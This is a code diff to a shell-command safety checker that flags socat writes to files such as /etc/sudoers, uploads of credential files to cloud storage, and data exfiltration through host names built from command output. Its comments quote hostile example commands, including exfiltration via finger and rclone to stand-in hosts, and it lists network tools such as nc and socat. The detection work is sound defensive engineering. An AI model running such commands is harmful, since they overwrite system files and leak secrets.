@@ -273,6 +273,22 @@ def _netcat(cmd: Cmd) -> None:
         else:
             cmd.add(M, "write", "openssl writes keys or files")
         return
+    if cmd.name == "socat":
+        # `socat - OPEN:/etc/sudoers,creat,trunc`: an address that creates or opens a file
+        # for writing writes it (truncating it or appending to it).
+        for w in cmd.args:
+            m = re.match(r"(?i)\A(?:open|create|creat|gopen):([^,]+)((?:,[^,]*)*)\Z", w.text)
+            if m is None or w.dynamic:
+                continue
+            opts = {o.strip().lower().split("=", 1)[0] for o in m.group(2).split(",")}
+            append = "append" in opts and "trunc" not in opts
+            if w.text.lower().startswith("open") and not opts & {"creat", "trunc", "append"}:
+                continue  # OPEN of an existing file without write options: read or write
+            t = write_target(m.group(1), cmd.scope.cwds, append=append)
+            if t is not None:
+                verb = "appends to" if append else "overwrites"
+                cmd.add(t.level, t.rule, f"socat {verb} {t.what}", w)
+                return
     if cmd.name == "socat" and _socat_sends_file(cmd):
         cmd.add(C, "exfiltration", "socat sends a file to the network")
         return
@@ -704,3 +720,122 @@ def _resolver(cmd: Cmd) -> None:
         )
     ):
         cmd.add(M, "network", f"{cmd.name} {ops[0]} changes the resolver's settings")
+
+
+# --- secret files sent to storage by any program (safety-m6) -----------------------------
+# Whatever the CLI (aws, gsutil, az, oci, b2, swift, storj, azcopy, a cmdlet), a credential
+# file handed to it together with a remote destination, or with an upload verb, leaves the
+# machine: exfiltration (critical, session-8 convention), never a delete.
+_REMOTE_DEST = re.compile(
+    r"(?i)\A(?:[a-z][a-z0-9+.-]{1,15}://\S+|[A-Za-z][\w.-]{1,40}:(?![\\/]{0,1}\Z)[^\\\s]*"
+    r"|\\\\[^\\]+\\\S+)\Z"
+)
+_UPLOAD_VERB = re.compile(
+    r"(?i)\A(?:cp|copy|put|upload|upload-file|upload-blob|sync|rcat|push|send|transfer|mirror"
+    r"|share|publish|store|write|import|post|object-put|put-object|upload-\S+|\S+-upload)\Z"
+)
+_UPLOAD_CMDLET = re.compile(
+    r"(?i)\A(?:write-s3object|write-gcsobject|set-azstorageblobcontent|set-azurestorageblobcontent"
+    r"|send-\S+|publish-\S+|invoke-restmethod|invoke-webrequest|start-bitstransfer)\Z"
+)
+# Options whose value is what gets sent (`--file X`, `-File X`, `-T X`, `--source X`).
+_SOURCE_OPTIONS = frozenset(
+    o.lower()
+    for o in names(
+        """
+        -f --file -file -infile --infile -path -literalpath --source --src -source -s --input
+        -input -T --upload-file --from-file --body --content -localfile --local-file
+        --localpath --local-path -filepath --filepath
+        """
+    )
+)
+# Switches that take no value (a file after them is an operand).
+_SWITCH = re.compile(
+    r"(?i)\A-(?:-(?:recursive|force|quiet|verbose|no-progress|overwrite|acl|public|r|q|v))\Z"
+    r"|\A-[rRqvf]{1,3}\Z"
+)
+# Programs that only handle files here: a remote-looking word (`host:path`) is theirs.
+_LOCAL_ONLY = frozenset(names("cp mv ln install rsync scp sftp tar zip unzip cat chmod chown"))
+
+
+def secret_upload(cmd: Cmd) -> Word | None:
+    """The credential file a command sends away, when it names one (as an operand or an
+    option's value: `--file X`, `-File X`, `-f=X`) next to a remote destination
+    (`s3://`, `sj://`, `remote:path`, `https://`, `\\\\host\\share`) or an upload verb, or
+    reads one on stdin (`rclone rcat remote:k < ~/.ssh/id_ecdsa`); None otherwise."""
+    if cmd.name in _LOCAL_ONLY:
+        return None
+    texts = [w for w in cmd.args if not w.dynamic]
+    secret: Word | None = None
+    for i, w in enumerate(cmd.args):
+        if w.dynamic or " " in w.text:
+            continue
+        if w.text.startswith("-"):
+            key, eq, value = w.text.partition("=")
+            if not eq or key.lower() not in _SOURCE_OPTIONS:
+                continue  # `--config ~/.docker/config.json`: credentials used, not sent
+        else:
+            prev = cmd.args[i - 1].text if i else ""
+            if (
+                prev.startswith("-")
+                and "=" not in prev
+                and prev.lower() not in _SOURCE_OPTIONS
+                and not _SWITCH.match(prev)
+            ):
+                # the value of some other option (`--kubeconfig X`, `-i key`); after a plain
+                # switch (`--recursive X`) X is an operand: only a source option's value or
+                # a bare operand counts
+                continue
+            value = w.text
+        if is_secret(value):
+            secret = w
+            break
+    stdin_secret = cmd.stdin.secret
+    if secret is None and not stdin_secret:
+        return None
+    ops = [w.text for w in texts if not w.text.startswith("-")]
+    remote = any(_REMOTE_DEST.match(t) and not is_secret(t) for t in ops)
+    verb = any(_UPLOAD_VERB.match(t) for t in ops[:3]) or bool(_UPLOAD_CMDLET.match(cmd.name))
+    if remote or verb:
+        return secret or Word("", cmd.start, cmd.end)
+    return None
+
+
+# Known programs that send a name they are given to another machine.
+_NAME_SENDERS = frozenset(
+    names("finger whois telnet nc ncat netcat socat ldapsearch smbclient rpcclient snmpget")
+)
+_FILE_SUFFIXES = frozenset(
+    names(
+        """
+        gz tgz bz2 xz zst zip tar log txt json csv bak sql md html htm xml yaml yml png jpg jpeg
+        gif pdf iso img deb rpm sh py js ts conf cfg ini out dat db tmp old pid lock key pem crt
+        csr asc gpg sig patch diff bin so dll exe tf lst rst toml env
+        """
+    )
+)
+_HOST_TAIL = re.compile(r"(?:@[\w-]+(?:\.[\w-]+)*\.[A-Za-z]{2,}|\.[\w-]+\.[A-Za-z]{2,})\.?[\"']?\Z")
+
+
+def substituted_destination(cmd: Cmd) -> Word | None:
+    """Any program handed a host name or `user@host` whose other part is a command's output
+    (`finger "$(head -1 /etc/passwd)@h.example"`, `tool "$(whoami).x.example"`): the name is
+    resolved or sent, so the output leaves the machine (exfiltration)."""
+    from aintern_ls.safety.registry import HANDLERS
+
+    if cmd.scope.family != "bash" or (cmd.name in HANDLERS and cmd.name not in _NAME_SENDERS):
+        return None
+    src = cmd.scope.source
+    for w in cmd.args:
+        if not w.dynamic or w.start < 0:
+            continue
+        raw = src[w.start : w.end]
+        if ("$(" not in raw and "`" not in raw) or not _HOST_TAIL.search(raw):
+            continue
+        tld = re.search(r"\.([A-Za-z]{2,})\.?[\"']?\Z", raw)
+        if tld is not None and tld.group(1).lower() in _FILE_SUFFIXES:
+            continue  # `"$(date +%F).backup.tgz"`: a file name, not a host
+        inner = raw[raw.find("$(") :] if "$(" in raw else raw
+        if "@" in raw or re.search(r"\)\.[\w-]+\.", inner) or re.search(r"`\.[\w-]+\.", raw):
+            return w
+    return None
